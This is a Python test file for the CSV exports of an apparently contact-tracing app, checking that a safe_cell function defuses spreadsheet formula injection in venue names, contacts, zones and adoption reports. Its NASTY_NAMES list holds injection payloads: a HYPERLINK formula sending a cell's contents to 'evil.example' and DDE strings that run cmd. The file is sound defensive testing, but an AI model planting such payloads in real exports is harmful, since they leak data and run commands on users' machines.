"""CSV exports: spreadsheets see no formula, and every value reads back as written."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.exports import (
    adoption_csv,
    contacts_csv,
    iso_time,
    safe_cell,
    village_csv,
    write_csv,
    zones_csv,
)
from tracing import Contact, ContactRule, Evidence, TraceResult, Zone
from tracing.adoption import VenueDays, adoption_report
from tracing.venues import Venue, VenueTable, normal_place

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
H = 3600
T0 = 1_641_600_000  # 2022-01-08 00:00 UTC, 07:00 in Hanoi
DAY = (T0 + 7 * H) // 86400

NASTY_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")', "+84 912 345 678",
               "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
               'Quán "Bà Ba", chi nhánh 2\nHà Nội', "Chợ Đồng Xuân"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def neutral(cell: str) -> bool:
    return not cell.startswith(DANGEROUS)


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_every_dangerous_prefix_gets_a_quote(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert safe_cell(prefix) == "'" + prefix


@pytest.mark.parametrize("value, cell", [
    ("Chợ Đồng Xuân", "Chợ Đồng Xuân"), ("a=b", "a=b"), ("'=x", "'=x"), ("", ""),
    (None, ""), (12, "12"), (2.5, "2.5"), (" =1", " =1"), ("\n=1", "\n=1"),
    (-3, "'-3"),  # a negative number too: see the module docstring
])
def test_other_values_are_unchanged(value, cell):
    assert safe_cell(value) == cell


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_any_text_reads_back_as_its_safe_cell(rows):
    back = read(write_csv(["a", "b", "c", "d"], rows))
    assert back[1:] == [[safe_cell(x) for x in row] for row in rows]
    for row, row_back in zip(rows, back[1:], strict=True):
        for x, cell in zip(row, row_back, strict=True):
            assert neutral(cell)
            assert cell == x or (cell == "'" + x and x.startswith(DANGEROUS))


VENUES = VenueTable(Venue(100 + i, name, village=name, category="shop")
                    for i, name in enumerate(NASTY_NAMES))


def a_trace() -> TraceResult:
    evidence = [Evidence(100 + i, T0 + i * H, T0 + i * H + 1800) for i in range(len(NASTY_NAMES))]
    contacts = (Contact(7, 1, T0, tuple(evidence)), Contact(8, 2, T0 + H, ()))
    zones = tuple(Zone(100 + i, 0, T0, T0 + 5400, i) for i in range(len(NASTY_NAMES)))
    return TraceResult(1, T0 - 86400, T0 + 86400, ContactRule(), contacts, zones)


def test_contacts_csv_rows_per_evidence_with_local_times():
    rows = read(contacts_csv(a_trace(), VENUES))
    assert rows[0] == ["person", "level", "exposed_at", "venue", "venue_name", "start", "end",
                       "minutes"]
    body = rows[1:]
    assert len(body) == len(NASTY_NAMES) + 1  # the contact without evidence keeps a row
    assert [r[4] for r in body[:-1]] == [safe_cell(n) for n in NASTY_NAMES]
    assert body[0][:4] == ["7", "1", "2022-01-08T07:00:00+07:00", "100"]
    assert body[0][5:] == ["2022-01-08T07:00:00+07:00", "2022-01-08T07:30:00+07:00", "30.0"]
    assert body[-1] == ["8", "2", "2022-01-08T08:00:00+07:00", "", "", "", "", ""]
    assert all(neutral(cell) for row in rows for cell in row)
    moment = datetime.fromisoformat(body[3][5])
    assert moment.utcoffset() == timedelta(hours=7)
    assert moment == datetime.fromtimestamp(T0 + 3 * H, UTC)


def test_zones_csv_names_villages_and_hours():
    rows = read(zones_csv(a_trace(), VENUES, tz_offset_s=0))
    assert rows[0] == ["venue", "venue_name", "village", "level", "start", "end", "hours",
                       "exposed"]
    assert [r[1] for r in rows[1:]] == [safe_cell(n) for n in NASTY_NAMES]
    # villages are kept in one spelling (tracing.venues.normal_place): "\r=1+1" is "=1+1"
    assert [r[2] for r in rows[1:]] == [safe_cell(normal_place(n)) for n in NASTY_NAMES]
    assert rows[1][3:] == ["0", "2022-01-08T00:00:00+00:00", "2022-01-08T01:30:00+00:00",
                           "1.5", "0"]
    assert all(neutral(cell) for row in rows for cell in row)


def a_report():
    venue = np.array([100, 107, 107], np.uint64)
    counts = VenueDays(venue, np.array([DAY, DAY, DAY + 1]), np.array([5, 1, 2]),
                       0, 2**32, 7 * H)
    return adoption_report(VENUES, {101: 3, 100: 1}, counts, DAY, DAY + 1)


def test_adoption_csv_lists_silent_venues_first_and_nothing_else():
    rows = read(adoption_csv(a_report()))
    assert rows[0][:4] == ["venue", "name", "village", "category"]
    assert len(rows) == 1 + len(NASTY_NAMES)
    assert rows[1] == ["101", safe_cell(NASTY_NAMES[1]), safe_cell(NASTY_NAMES[1]), "shop",
                       "3", "0", "0", "2", "", "", "yes"]
    assert rows[-1] == ["100", safe_cell(NASTY_NAMES[0]), safe_cell(NASTY_NAMES[0]), "shop",
                        "1", "5", "1", "1", "2022-01-08", "2022-01-08", "no"]
    assert rows[-2][1] == "Chợ Đồng Xuân" and rows[-2][8:] == ["2022-01-08", "2022-01-09",
                                                               "no"]
    assert all(neutral(cell) for row in rows for cell in row)


def test_village_csv_has_a_column_per_day():
    rows = read(village_csv(a_report()))
    assert rows[0] == ["village", "venues", "venues_with_qr_points", "silent_venues",
                       "checkins", "checkins_per_venue_day", "2022-01-08", "2022-01-09"]
    by_village = {r[0]: r[1:] for r in rows[1:]}
    assert by_village["Chợ Đồng Xuân"] == ["1", "0", "0", "3", "1.5", "1", "2"]
    assert by_village[safe_cell(NASTY_NAMES[1])] == ["1", "1", "1", "0", "0.0", "0", "0"]
    assert all(neutral(cell) for row in rows for cell in row)


def test_iso_time_carries_the_offset():
    assert iso_time(T0) == "2022-01-08T07:00:00+07:00"
    assert iso_time(T0, -5 * H) == "2022-01-07T19:00:00-05:00"
